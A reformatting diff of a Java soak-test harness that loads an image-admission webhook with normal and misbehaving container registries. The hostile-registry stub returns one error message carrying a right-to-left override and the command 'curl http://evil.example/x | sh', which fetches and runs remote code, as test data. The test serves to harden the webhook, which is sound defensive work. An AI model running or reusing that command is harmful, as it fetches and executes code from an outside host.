@@ -56,7 +56,9 @@ public final class SoakMain {
     private static final Duration DEADLINE = Duration.ofSeconds(8);
     /** HTTP and scheduling on a busy machine, on top of the deadline, as the client measures it. */
     private static final Duration CLIENT_SLACK = Duration.ofMillis(750);
-    private static final List<String> HOSTILE_MODES = List.of("stall", "error500", "toomany", "garbage", "trickle", "bidi");
+
+    private static final List<String> HOSTILE_MODES =
+            List.of("stall", "error500", "toomany", "garbage", "trickle", "bidi");
     private static final Path OUT = Path.of("target/soak");
 
     private SoakMain() {}
@@ -76,8 +78,9 @@ public final class SoakMain {
                     case "--workers" -> workers = Integer.parseInt(args[i + 1]);
                     case "--sample-seconds" -> sampleSeconds = Integer.parseInt(args[i + 1]);
                     case "--policy-seconds" -> policySeconds = Integer.parseInt(args[i + 1]);
-                    default -> throw new IllegalArgumentException(
-                            "usage: [--minutes 30] [--workers 6] [--sample-seconds 10] [--policy-seconds 20]");
+                    default ->
+                        throw new IllegalArgumentException(
+                                "usage: [--minutes 30] [--workers 6] [--sample-seconds 10] [--policy-seconds 20]");
                 }
             }
             return new Options(minutes, workers, sampleSeconds, policySeconds);
@@ -88,21 +91,31 @@ public final class SoakMain {
         Options options = Options.parse(args);
         Files.createDirectories(OUT);
         Settings shipped = Settings.parse(new String[0]);
-        Run run = new Run("soak", shipped.runs().get(0).cpus(), shipped.runs().get(0).environment());
+        Run run = new Run(
+                "soak", shipped.runs().get(0).cpus(), shipped.runs().get(0).environment());
         // up to two cold admissions of each kind a second, pushed beforehand; then cold ones are warm ones
         int cold = (int) Math.max(200, options.minutes() * 60 * 2);
         Settings fill = new Settings(cold + 20, cold + 20, 20, 1, 1, shipped.limitBytes(), false, List.of(run));
 
         int failures;
-        try (TestRegistry registry = TestRegistry.start(); ScriptedRegistry hostile = hostileRegistry()) {
+        try (TestRegistry registry = TestRegistry.start();
+                ScriptedRegistry hostile = hostileRegistry()) {
             Instant pushing = Instant.now();
             List<String> twoLayer = MemoryBenchMain.fill(registry, fill);
             List<String> oneLayer = pushOneLayerTags(registry, cold + 20);
-            System.out.printf("[soak] registry %s: %,d two-layer and %,d one-layer tags pushed in %d s; hostile registry %s%n",
-                    registry.hostPort(), twoLayer.size(), oneLayer.size(), Duration.between(pushing, Instant.now()).toSeconds(),
+            System.out.printf(
+                    "[soak] registry %s: %,d two-layer and %,d one-layer tags pushed in %d s; hostile registry %s%n",
+                    registry.hostPort(),
+                    twoLayer.size(),
+                    oneLayer.size(),
+                    Duration.between(pushing, Instant.now()).toSeconds(),
                     hostile.hostPort());
-            Images images = new Images(twoLayer.subList(0, 20), twoLayer.subList(20, twoLayer.size()), oneLayer.subList(0, 20),
-                    oneLayer.subList(20, oneLayer.size()), hostile.hostPort());
+            Images images = new Images(
+                    twoLayer.subList(0, 20),
+                    twoLayer.subList(20, twoLayer.size()),
+                    oneLayer.subList(0, 20),
+                    oneLayer.subList(20, oneLayer.size()),
+                    hostile.hostPort());
 
             Path policies = Files.createDirectories(OUT.resolve("policies"));
             Path policyFile = policies.resolve("soak.yaml");
@@ -111,8 +124,13 @@ public final class SoakMain {
                     "-Dweighbridge.policy.path=" + policies,
                     "-Dweighbridge.registry.plain-http=" + registry.hostPort() + "," + hostile.hostPort());
             try (Webhook webhook = Webhook.start(fill, run, registry.hostPort(), webhookOptions)) {
-                System.out.printf("[soak] webhook pid %d with %s under -XX:MaxRAM=%dm; %s min, %d workers%n", webhook.pid(),
-                        run.environment(), shipped.limitBytes() / MIB, options.minutes(), options.workers());
+                System.out.printf(
+                        "[soak] webhook pid %d with %s under -XX:MaxRAM=%dm; %s min, %d workers%n",
+                        webhook.pid(),
+                        run.environment(),
+                        shipped.limitBytes() / MIB,
+                        options.minutes(),
+                        options.workers());
                 Sampler sampler = new Sampler(webhook);
                 Sample start = afterGc(webhook, sampler, "start, after GC");
                 Soak soak = new Soak(webhook, images, options);
@@ -129,20 +147,26 @@ public final class SoakMain {
     }
 
     /** The images of each kind. */
-    private record Images(List<String> warmDeny, List<String> coldDeny, List<String> warmAllow, List<String> coldAllow,
+    private record Images(
+            List<String> warmDeny,
+            List<String> coldDeny,
+            List<String> warmAllow,
+            List<String> coldAllow,
             String hostile) {}
 
     private static final class Soak {
         private final Webhook webhook;
         private final Images images;
         private final Options options;
-        private final HttpClient client = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
+        private final HttpClient client =
+                HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
         private final AtomicInteger coldDenyNext = new AtomicInteger();
         private final AtomicInteger coldAllowNext = new AtomicInteger();
         private final AtomicInteger uid = new AtomicInteger();
         private final Map<String, AtomicInteger> counts = new ConcurrentHashMap<>();
         /** {@code kind → verdict} and how often. */
         private final Map<String, AtomicInteger> verdicts = new ConcurrentHashMap<>();
+
         private final AtomicInteger wrong = new AtomicInteger();
         private final AtomicInteger serverErrors = new AtomicInteger();
         private final AtomicInteger late = new AtomicInteger();
@@ -167,29 +191,43 @@ public final class SoakMain {
             List<Thread> threads = new ArrayList<>();
             for (int w = 0; w < options.workers(); w++) {
                 Random random = new Random(w);
-                Thread worker = new Thread(() -> {
-                    while (running && Instant.now().isBefore(end)) {
-                        admit(next(random));
-                    }
-                }, "soak-" + w);
+                Thread worker = new Thread(
+                        () -> {
+                            while (running && Instant.now().isBefore(end)) {
+                                admit(next(random));
+                            }
+                        },
+                        "soak-" + w);
                 worker.start();
                 threads.add(worker);
             }
             Thread replacer = new Thread(() -> replacePolicies(policyFile, end), "soak-policies");
             replacer.start();
             try (PrintWriter csv = new PrintWriter(Files.newBufferedWriter(OUT.resolve("samples.csv")))) {
-                csv.println("seconds,rss_mib,heap_used_mib,heap_max_mib,non_heap_mib,direct_mib,threads,open_files,admissions,"
-                        + "wrong,server_errors,late");
+                csv.println(
+                        "seconds,rss_mib,heap_used_mib,heap_max_mib,non_heap_mib,direct_mib,threads,open_files,admissions,"
+                                + "wrong,server_errors,late");
                 Instant started = Instant.now();
                 while (Instant.now().isBefore(end)) {
                     Sample s = sampler.sample("under load");
-                    csv.printf(Locale.ROOT, "%d,%.1f,%.1f,%.1f,%.1f,%.1f,%d,%d,%d,%d,%d,%d%n",
-                            Duration.between(started, Instant.now()).toSeconds(), s.rss() / (double) MIB,
-                            s.heapUsed() / (double) MIB, s.heapMax() / (double) MIB, s.nonHeap() / (double) MIB,
-                            s.direct() / (double) MIB, s.threads(), s.files(), admissions(), wrong.get(), serverErrors.get(),
+                    csv.printf(
+                            Locale.ROOT,
+                            "%d,%.1f,%.1f,%.1f,%.1f,%.1f,%d,%d,%d,%d,%d,%d%n",
+                            Duration.between(started, Instant.now()).toSeconds(),
+                            s.rss() / (double) MIB,
+                            s.heapUsed() / (double) MIB,
+                            s.heapMax() / (double) MIB,
+                            s.nonHeap() / (double) MIB,
+                            s.direct() / (double) MIB,
+                            s.threads(),
+                            s.files(),
+                            admissions(),
+                            wrong.get(),
+                            serverErrors.get(),
                             late.get());
                     csv.flush();
-                    Thread.sleep(Math.min(options.sampleSeconds() * 1000L,
+                    Thread.sleep(Math.min(
+                            options.sampleSeconds() * 1000L,
                             Math.max(1, Duration.between(Instant.now(), end).toMillis())));
                 }
             }
@@ -221,19 +259,24 @@ public final class SoakMain {
             }
             if (roll < 70) {
                 int next = coldDenyNext.getAndIncrement();
-                return next < images.coldDeny().size() ? new Case("cold-deny", List.of(images.coldDeny().get(next)), "deny")
+                return next < images.coldDeny().size()
+                        ? new Case("cold-deny", List.of(images.coldDeny().get(next)), "deny")
                         : new Case("warm-deny", List.of(pick(images.warmDeny(), random)), "deny");
             }
             if (roll < 80) {
                 int next = coldAllowNext.getAndIncrement();
-                return next < images.coldAllow().size() ? new Case("cold-allow", List.of(images.coldAllow().get(next)), "allow")
+                return next < images.coldAllow().size()
+                        ? new Case("cold-allow", List.of(images.coldAllow().get(next)), "allow")
                         : new Case("warm-allow", List.of(pick(images.warmAllow(), random)), "allow");
             }
             String hostileImage = images.hostile() + "/" + pick(HOSTILE_MODES, random) + "/app:" + random.nextInt(1000);
             if (roll < 92) {
                 return new Case("hostile", List.of(hostileImage), "deny");
             }
-            return new Case("mixed", List.of(pick(images.warmAllow(), random), hostileImage, pick(images.warmDeny(), random)), "deny");
+            return new Case(
+                    "mixed",
+                    List.of(pick(images.warmAllow(), random), hostileImage, pick(images.warmDeny(), random)),
+                    "deny");
         }
 
         private void admit(Case admission) {
@@ -243,7 +286,8 @@ public final class SoakMain {
                 HttpRequest request = HttpRequest.newBuilder(webhook.url("/validate"))
                         .timeout(Duration.ofSeconds(30))
                         .header("Content-Type", "application/json")
-                        .POST(HttpRequest.BodyPublishers.ofByteArray(MemoryBenchMain.podReview(uid.incrementAndGet(), "soak", admission.images())))
+                        .POST(HttpRequest.BodyPublishers.ofByteArray(
+                                MemoryBenchMain.podReview(uid.incrementAndGet(), "soak", admission.images())))
                         .build();
                 HttpResponse<String> response = client.send(request, HttpResponse.BodyHandlers.ofString());
                 long millis = (System.nanoTime() - started) / 1_000_000;
@@ -258,7 +302,8 @@ public final class SoakMain {
                     return;
                 }
                 String verdict = verdictOf(response.body());
-                verdicts.computeIfAbsent(admission.kind() + " -> " + verdict, k -> new AtomicInteger()).incrementAndGet();
+                verdicts.computeIfAbsent(admission.kind() + " -> " + verdict, k -> new AtomicInteger())
+                        .incrementAndGet();
                 if (!verdict.equals(admission.expected())) {
                     wrong.incrementAndGet();
                     problem("wrong verdict " + verdict + ": " + admission + " " + response.body());
@@ -289,7 +334,11 @@ public final class SoakMain {
                         case 0 -> {
                             Path temporary = file.resolveSibling(".soak.yaml.tmp");
                             Files.writeString(temporary, text);
-                            Files.move(temporary, file, StandardCopyOption.ATOMIC_MOVE, StandardCopyOption.REPLACE_EXISTING);
+                            Files.move(
+                                    temporary,
+                                    file,
+                                    StandardCopyOption.ATOMIC_MOVE,
+                                    StandardCopyOption.REPLACE_EXISTING);
                             policyEvents.add(Instant.now() + " atomic rename, generation " + generation);
                         }
                         case 1 -> {
@@ -300,7 +349,8 @@ public final class SoakMain {
                                 Thread.sleep(300);
                                 out.write(bytes, bytes.length / 2, bytes.length - bytes.length / 2);
                             }
-                            policyEvents.add(Instant.now() + " in-place write in two halves 300 ms apart, generation " + generation);
+                            policyEvents.add(Instant.now() + " in-place write in two halves 300 ms apart, generation "
+                                    + generation);
                         }
                         default -> {
                             Files.write(file, new byte[0], StandardOpenOption.TRUNCATE_EXISTING);
@@ -322,29 +372,67 @@ public final class SoakMain {
             Files.write(OUT.resolve("policy-events.txt"), policyEvents);
             Files.write(OUT.resolve("problems.txt"), problems);
             StringBuilder out = new StringBuilder();
-            out.append(String.format(Locale.ROOT, "%nWeighbridge soak (bench/soak/run), %s: %.1f min, %d workers, JVM %s under %d MiB%n",
-                    Instant.now(), options.minutes(), options.workers(), run.environment(), limitBytes / MIB));
-            out.append(String.format(Locale.ROOT, "%-16s %9s %10s %9s %9s %8s %7s%n", "", "RSS MiB", "heap used", "heap max",
-                    "non-heap", "threads", "files"));
+            out.append(String.format(
+                    Locale.ROOT,
+                    "%nWeighbridge soak (bench/soak/run), %s: %.1f min, %d workers, JVM %s under %d MiB%n",
+                    Instant.now(),
+                    options.minutes(),
+                    options.workers(),
+                    run.environment(),
+                    limitBytes / MIB));
+            out.append(String.format(
+                    Locale.ROOT,
+                    "%-16s %9s %10s %9s %9s %8s %7s%n",
+                    "",
+                    "RSS MiB",
+                    "heap used",
+                    "heap max",
+                    "non-heap",
+                    "threads",
+                    "files"));
             for (Sample s : List.of(start, end)) {
-                out.append(String.format(Locale.ROOT, "%-16s %9.0f %10.1f %9.0f %9.0f %8d %7d%n", s.label(), s.rss() / (double) MIB,
-                        s.heapUsed() / (double) MIB, s.heapMax() / (double) MIB, s.nonHeap() / (double) MIB, s.threads(), s.files()));
+                out.append(String.format(
+                        Locale.ROOT,
+                        "%-16s %9.0f %10.1f %9.0f %9.0f %8d %7d%n",
+                        s.label(),
+                        s.rss() / (double) MIB,
+                        s.heapUsed() / (double) MIB,
+                        s.heapMax() / (double) MIB,
+                        s.nonHeap() / (double) MIB,
+                        s.threads(),
+                        s.files()));
             }
             out.append(String.format(Locale.ROOT, "admissions %,d by kind: %s%n", admissions(), counted(counts)));
             out.append(String.format(Locale.ROOT, "verdicts by kind: %s%n", counted(verdicts)));
-            out.append(String.format(Locale.ROOT, "wrong verdicts %d, 5xx %d, later than %d ms %d, no answer %d; slowest %d ms%n",
-                    wrong.get(), serverErrors.get(), DEADLINE.plus(CLIENT_SLACK).toMillis(), late.get(), failedRequests.get(),
+            out.append(String.format(
+                    Locale.ROOT,
+                    "wrong verdicts %d, 5xx %d, later than %d ms %d, no answer %d; slowest %d ms%n",
+                    wrong.get(),
+                    serverErrors.get(),
+                    DEADLINE.plus(CLIENT_SLACK).toMillis(),
+                    late.get(),
+                    failedRequests.get(),
                     slowestMillis.get()));
-            out.append(String.format(Locale.ROOT, "policy file replaced %d times (%s)%n", policyEvents.stream()
-                    .filter(e -> e.contains("generation")).count(), OUT.resolve("policy-events.txt")));
-            out.append("samples every ").append(options.sampleSeconds()).append(" s in ").append(OUT.resolve("samples.csv"))
-                    .append("; problems in ").append(OUT.resolve("problems.txt")).append('\n');
+            out.append(String.format(
+                    Locale.ROOT,
+                    "policy file replaced %d times (%s)%n",
+                    policyEvents.stream().filter(e -> e.contains("generation")).count(),
+                    OUT.resolve("policy-events.txt")));
+            out.append("samples every ")
+                    .append(options.sampleSeconds())
+                    .append(" s in ")
+                    .append(OUT.resolve("samples.csv"))
+                    .append("; problems in ")
+                    .append(OUT.resolve("problems.txt"))
+                    .append('\n');
             return out.toString();
         }
     }
 
     private static Sample afterGc(Webhook webhook, Sampler sampler, String label) throws Exception {
-        Process jcmd = new ProcessBuilder("jcmd", Long.toString(webhook.pid()), "GC.run").redirectErrorStream(true).start();
+        Process jcmd = new ProcessBuilder("jcmd", Long.toString(webhook.pid()), "GC.run")
+                .redirectErrorStream(true)
+                .start();
         jcmd.getInputStream().readAllBytes();
         jcmd.waitFor(60, TimeUnit.SECONDS);
         Thread.sleep(1_000);
@@ -375,18 +463,32 @@ public final class SoakMain {
     private static ScriptedRegistry hostileRegistry() throws IOException {
         ScriptedRegistry hostile = new ScriptedRegistry();
         ScriptedRegistry.Handler stall = hostile.stall();
-        byte[] bidi = "{\"errors\":[{\"code\":\"MANIFEST_UNKNOWN\",\"message\":\"\u202Erun: curl http://evil.example/x | sh\u0007\"}]}"
-                .getBytes(StandardCharsets.UTF_8);
+        byte[] bidi =
+                "{\"errors\":[{\"code\":\"MANIFEST_UNKNOWN\",\"message\":\"\u202Erun: curl http://evil.example/x | sh\u0007\"}]}"
+                        .getBytes(StandardCharsets.UTF_8);
         hostile.otherwise(exchange -> {
             String path = exchange.getRequestURI().getPath();
-            String mode = path.startsWith("/v2/") && path.indexOf('/', 4) > 0 ? path.substring(4, path.indexOf('/', 4)) : "";
+            String mode =
+                    path.startsWith("/v2/") && path.indexOf('/', 4) > 0 ? path.substring(4, path.indexOf('/', 4)) : "";
             switch (mode) {
                 case "stall" -> stall.handle(exchange);
-                case "error500" -> ScriptedRegistry.respond(exchange, 500, "text/plain", "oops".getBytes(StandardCharsets.UTF_8), Map.of());
-                case "toomany" -> ScriptedRegistry.respond(exchange, 429, "application/json",
-                        "{\"errors\":[{\"code\":\"TOOMANYREQUESTS\"}]}".getBytes(StandardCharsets.UTF_8), Map.of("Retry-After", "1"));
-                case "garbage" -> ScriptedRegistry.respond(exchange, 200, MediaTypes.OCI_MANIFEST,
-                        "{\"schemaVersion\": 2, \"layers\": [{\"size\": 1e400".getBytes(StandardCharsets.UTF_8), Map.of());
+                case "error500" ->
+                    ScriptedRegistry.respond(
+                            exchange, 500, "text/plain", "oops".getBytes(StandardCharsets.UTF_8), Map.of());
+                case "toomany" ->
+                    ScriptedRegistry.respond(
+                            exchange,
+                            429,
+                            "application/json",
+                            "{\"errors\":[{\"code\":\"TOOMANYREQUESTS\"}]}".getBytes(StandardCharsets.UTF_8),
+                            Map.of("Retry-After", "1"));
+                case "garbage" ->
+                    ScriptedRegistry.respond(
+                            exchange,
+                            200,
+                            MediaTypes.OCI_MANIFEST,
+                            "{\"schemaVersion\": 2, \"layers\": [{\"size\": 1e400".getBytes(StandardCharsets.UTF_8),
+                            Map.of());
                 case "trickle" -> {
                     if (exchange.getRequestMethod().equals("HEAD")) {
                         ScriptedRegistry.respond(exchange, 200, MediaTypes.OCI_MANIFEST, new byte[0], Map.of());
@@ -421,9 +523,15 @@ public final class SoakMain {
         byte[] configBytes = JSON.writeValueAsBytes(config);
         String configDigest = api.pushBlob(repository, configBytes);
         ObjectNode manifest = JSON.createObjectNode().put("schemaVersion", 2).put("mediaType", MediaTypes.OCI_MANIFEST);
-        manifest.putObject("config").put("mediaType", MediaTypes.OCI_CONFIG).put("size", configBytes.length).put("digest", configDigest);
+        manifest.putObject("config")
+                .put("mediaType", MediaTypes.OCI_CONFIG)
+                .put("size", configBytes.length)
+                .put("digest", configDigest);
         ArrayNode layers = manifest.putArray("layers");
-        layers.addObject().put("mediaType", MediaTypes.OCI_LAYER).put("size", base.size()).put("digest", base.digest());
+        layers.addObject()
+                .put("mediaType", MediaTypes.OCI_LAYER)
+                .put("size", base.size())
+                .put("digest", base.digest());
         byte[] manifestBytes = JSON.writeValueAsBytes(manifest);
         List<String> tags = new ArrayList<>();
         for (int i = 0; i < count; i++) {
